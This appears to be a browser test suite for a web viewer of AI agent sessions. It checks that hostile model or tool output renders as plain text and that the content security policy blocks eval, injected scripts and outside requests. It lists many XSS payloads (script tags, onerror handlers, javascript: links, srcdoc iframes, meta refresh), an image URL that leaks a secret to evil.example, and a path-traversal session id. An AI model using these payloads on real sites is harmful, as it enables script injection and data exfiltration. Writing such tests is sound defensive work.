// Nothing from a model, a tool, a provider or another client runs in the page,
// makes elements of its own, or asks another host for anything.

import assert from "node:assert/strict";
import test, { after, before } from "node:test";
import { launch, open } from "./browser.mjs";
import { fakeServer } from "./fake.mjs";

let browser, fake;
before(async () => { browser = await launch(); fake = await fakeServer(); });
after(async () => { await browser?.close(); await fake?.stop(); });

const evil = [
  `<script>window.pwned = 1</script>`,
  `<img src=x onerror="window.pwned = 1">`,
  `"><svg onload=window.pwned=1>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `[click](javascript:window.pwned=1) [x](data:text/html,<script>1</script>) <javascript:alert(1)>`,
  `![i](https://evil.example/leak.png?secret=1)`,
  `<style>body{display:none}</style><link rel=stylesheet href=https://evil.example/x.css>`,
  `<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<a href="javascript:window.pwned=1" id="box" name="composer">x</a>`,
  `\`\`\`"><script>window.pwned=1</script>\n<img src=x onerror=window.pwned=1>\n\`\`\``,
  `| <img src=x onerror=window.pwned=1> | b |\n|---|---|\n| <script>window.pwned=1</script> | [a](jAvAsCrIpT:window.pwned=1) |`,
  `</textarea></title></style><script>window.pwned=1</script>`,
  `\u001b]8;;javascript:window.pwned=1\u0007link\u001b]8;;\u0007`,
  `constructor __proto__ {{7*7}} \${7*7} %s %c`,
];
const all = evil.join("\n\n");

test("hostile text in every field of every event is text", async () => {
  const f = fake.film("evil-1");
  f.tell("session.closed", { reason: all, message: all }, { by: all });
  f.tell("session.opened", { settle: all, dir: all, face: all, permission: all, notes: evil }, { by: all });
  const input = f.input(all, undefined, "n1", all);
  f.tell("turn.started", { inputs: [input], provider: all, model: all }, { turn: "t000001", by: all });
  f.attempt();
  const failed = f.say(all);
  f.attemptEnds({ outcome: "failed", error: { name: all, kind: all, status: 500, message: all, body: all }, retry_in_ms: 1, discarded: [failed] });
  f.attempt(1, 2);
  f.say(all, "reasoning");
  f.say(all);
  for (const e of evil) f.say(e);
  const call = f.ready(all, { [all]: all, command: all });
  f.asks(call, { tool: all, title: all, why: all, detail: { files: [{ path: all, from: evil[1], kind: all, diff: `--- a/x\n+++ b/x\n@@ -1,1 +1,2 @@ ${evil[1]}\n-${evil[0]}\n+${evil[1]}\n+${evil[2]}\n`, added: 2, removed: 1 }] } });
  f.answered("p000001", "approved", { message: all, policy: all }, all);
  f.runs(call, all);
  f.delta(call, all, "output");
  f.end(call, { status: "failed", output: all, output_file: all, exit_code: 1, detail: { files: [{ path: all, diff: all, added: evil[1], removed: {} }] }, survivors: [{ pid: evil[1], why: all }], cause: { outcome: "aborted", reason: all, by: all, message: all, error: { name: all, message: all } } });
  f.tell("job.started", { job: "j1", pid: evil[1], command: all, log: all });
  const next = f.ready("shell", { command: "x" });
  f.asks(next, { tool: all, title: all, why: all, detail: all });
  f.tell("mystery.kind", { x: all }, { turn: "t000001" });
  f.input(all, undefined, "n2", all);

  const { page, context, wrong } = await open(browser, "about:blank");
  const asked = [];
  page.on("request", (r) => asked.push(r.url()));
  page.on("dialog", (d) => { wrong.push(`a dialog: ${d.message()}`); d.dismiss(); });
  await page.goto(`${fake.url}#/s/evil-1`);
  await page.waitForSelector(".approval");
  // Open all that can be opened.
  await page.getByRole("button", { name: "Show its output" }).click();
  await page.evaluate(() => { for (const b of document.querySelectorAll(".disclosure")) if (b.getAttribute("aria-expanded") === "false") b.click(); });
  await page.locator("#jobs-button").click();
  await page.locator(".picture").last().focus();
  for (let n = 0; n < 12; n++) await page.keyboard.press("ArrowRight");
  await page.locator("#scroller").evaluate((s) => { s.scrollTop = 0; });
  await page.getByText("window.pwned = 1").first().waitFor();

  const found = await page.evaluate(() => ({
    pwned: window.pwned,
    foreign: [...document.querySelectorAll("script:not([src^='assets/']), iframe, object, embed, base, style, meta[http-equiv], link:not([href^='assets/']), video, audio, math, foreignObject, use, image")].map((el) => el.outerHTML),
    images: [...document.images].map((i) => i.src),
    handlers: [...document.querySelectorAll("*")].flatMap((el) => [...el.attributes]).filter((a) => /^on|^style$|^srcdoc$/.test(a.name) && !/^(?:(?:height|fill): [^;]*;)?$/.test(a.value)).map((a) => `${a.name}=${a.value}`),
    links: [...document.links].map((a) => a.protocol).filter((p) => !/^https?:$/.test(p)),
    targets: [...document.querySelectorAll(".prose a")].filter((a) => a.target !== "_blank" || !a.rel.includes("noopener")).length,
    boxes: document.querySelectorAll("#box").length,
    shown: document.getElementById("scroller").innerText.includes("<script>window.pwned = 1</script>"),
  }));
  assert.deepEqual(found, { pwned: undefined, foreign: [], images: [], handlers: [], links: [], targets: 0, boxes: 1, shown: true });
  assert.deepEqual(asked.filter((u) => !u.startsWith(fake.url)), [], "other hosts were asked");
  assert.deepEqual(wrong, []);
  await context.close();
});

test("the policy holds even where the page would not", async () => {
  fake.film("evil-2");
  const { page, context } = await open(browser, `${fake.url}#/s/evil-2`);
  await page.waitForSelector('body[data-shown="evil-2"]');
  // In a task of the page's own: what a debugger evaluates is above the policy.
  const tried = await page.evaluate(() => new Promise((done) => { setTimeout(async () => {
    const attempt = (f) => { try { f(); return "went"; } catch (e) { return e.name; } };
    const out = {
      markup: attempt(() => { document.body.insertAdjacentHTML("beforeend", "<b>x</b>"); }),
      eval: attempt(() => { window.eval("1"); }),
      text: attempt(() => { const s = document.createElement("script"); s.text = "window.pwned = 1"; document.body.append(s); }),
    };
    const el = document.createElement("div");
    el.setAttribute("style", "color: red");
    document.body.append(el);
    out.style = getComputedStyle(el).color;
    out.elsewhere = await fetch("https://evil.example/").then(() => "went", () => "refused");
    out.pwned = window.pwned;
    done(out);
  }); }));
  assert.notEqual(tried.markup, "went");
  assert.notEqual(tried.eval, "went");
  assert.notEqual(tried.text, "went");
  assert.notEqual(tried.style, "rgb(255, 0, 0)");
  assert.equal(tried.elsewhere, "refused");
  assert.equal(tried.pwned, undefined);
  await context.close();
});

test("a session's id is no way in", async () => {
  const id = `../../x"><img src=x onerror=window.pwned=1>?#%`;
  const f = fake.film(id);
  f.turn("Fine");
  const { page, context, check } = await open(browser, fake.url);
  await page.locator("#session-list").getByText("Fine").click();
  await page.locator('[data-key="turn t000001"]').getByText("Fine").waitFor();
  assert.equal(await page.evaluate(() => window.pwned), undefined);
  check();
  await context.close();
});
